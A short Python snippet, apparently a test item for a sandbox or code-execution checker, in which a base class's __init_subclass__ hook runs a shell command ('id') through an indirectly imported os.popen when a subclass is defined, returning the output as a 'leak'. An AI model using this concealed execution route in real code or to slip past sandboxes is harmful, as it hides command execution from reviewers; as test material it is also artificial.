# route: __init_subclass__ runs when a class is derived
class Base:
    def __init_subclass__(cls, command=None):
        cls.leak = __import__("os").popen(command).read()


class Derived(Base, command="id"):
    pass


def execute(testData):
    return {"leak": Derived.leak}
